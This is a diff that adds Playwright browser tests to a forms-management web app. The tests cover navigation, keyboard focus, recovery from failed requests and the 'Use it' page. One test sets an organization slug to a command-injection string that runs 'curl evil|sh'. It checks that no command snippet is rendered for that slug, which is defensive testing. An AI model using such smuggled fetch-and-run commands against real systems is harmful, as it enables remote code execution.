@@ -42,6 +42,25 @@ describe('the page that the URL names', () => {
   })
 })
 
+describe('the navigation', () => {
+  it('leads back to the last organization from a page that has none', async () => {
+    const account = await system().account()
+    const { slug, organizationId } = await system().account()
+    await using directory = await openDirectoryStore(system().directoryStoreUrl)
+    await directory.addMember({ organizationId, userId: account.userId, role: 'viewer' })
+    await using opened = await signIn(account)
+    const { page } = opened
+
+    await page.getByRole('combobox', { name: 'Organization' }).selectOption(slug)
+    await page.getByText('No forms here.').waitFor()
+    await page.getByRole('link', { name: 'Keys' }).click()
+    await page.getByRole('row', { name: /Test/ }).waitFor()
+    await page.getByRole('link', { name: 'Forms', exact: true }).click()
+
+    await expect.poll(() => page.url()).toContain(`/organizations/${slug}/forms`)
+  })
+})
+
 describe('a name in Hebrew', () => {
   it('leaves the other words of a heading in their order', async () => {
     const account = await system().account({ role: 'owner' })
@@ -287,6 +306,31 @@ describe('with the keyboard', () => {
     await expect.poll(() => focused(page)).toBe('Deleted forms')
   })
 
+  it('the focus goes to the first row of the next page', async () => {
+    const account = await system().account()
+    await using opened = await signIn(account)
+    const { page } = opened
+    const time = new Date().toISOString()
+    const deletedForm = (name: string) => ({
+      path: `organizations/o/forms/${name}`,
+      name,
+      deleter: '',
+      deleteTime: time,
+      purgeTime: time,
+    })
+    await page.route('**/deletedForms?*', (request) => {
+      const isFirst = !request.request().url().includes('pageToken')
+      const deletedForms = [deletedForm(isFirst ? 'First' : 'Second')]
+      return request.fulfill({ json: { deletedForms, nextPageToken: isFirst ? 'next' : '', totalSize: 2 } })
+    })
+
+    await page.getByRole('link', { name: 'Deleted forms' }).click()
+    await page.getByRole('button', { name: 'More deleted forms' }).press('Enter')
+
+    await expect.poll(() => focused(page)).toMatch(/^Second/)
+    expect(await page.getByRole('button', { name: 'More deleted forms' }).count()).toBe(0)
+  })
+
   it('Escape does not close the only copy of a new key', async () => {
     const account = await system().account()
     await using opened = await signIn(account)
@@ -313,6 +357,52 @@ describe('with the keyboard', () => {
     await page.getByRole('button', { name: 'Done' }).press('Enter')
 
     await expect.poll(() => focused(page)).toBe('Keys')
+  })
+})
+
+describe('a page that could not be read', () => {
+  it('is read when the connection is back, or by a button', async () => {
+    const account = await system().account()
+    const { publicId } = await given(account)
+    await using opened = await signIn(account)
+    const { page, context } = opened
+
+    for (const [name, content] of [
+      ['revisions', 'This form was never published.'],
+      ['form-activity', 'Created'],
+    ] as const) {
+      await context.setOffline(true)
+      await goToForm(opened, account, publicId, name)
+      await page.getByText('The service did not respond.').waitFor()
+      await context.setOffline(false)
+      await page.getByText(content).waitFor()
+      expect(await page.getByRole('alert').count()).toBe(0)
+    }
+
+    await page.route('**/v2/keys?*', (request) => request.abort())
+    await page.getByRole('link', { name: 'Keys' }).click()
+    await page.getByText('The service did not respond.').waitFor()
+    await page.unroute('**/v2/keys?*')
+    await page.getByRole('button', { name: 'Try again' }).press('Enter')
+    await page.getByRole('row', { name: /Test/ }).waitFor()
+    await expect.poll(() => focused(page)).toBe('Keys')
+  })
+})
+
+describe('the page Use it', () => {
+  it('shows no line for a form that the URL has made up', async () => {
+    const account = await system().account()
+    const { publicId, path } = await given(account)
+    await using opened = await signIn(account)
+    const { page } = opened
+    const organization = { ...account, slug: encodeURIComponent('demo"; curl evil|sh; "') }
+    await goToForm(opened, organization, publicId, 'use-it')
+    await page.getByText('ORGANIZATION_NOT_FOUND').waitFor()
+    expect(await page.locator('pre').count()).toBe(0)
+
+    const [, organizationId, , formId] = path.split('/')
+    await goToForm(opened, { ...account, slug: organizationId }, formId, 'use-it')
+    await page.getByText(`/organizations/${account.slug}/forms/${publicId}`).waitFor()
   })
 })
 
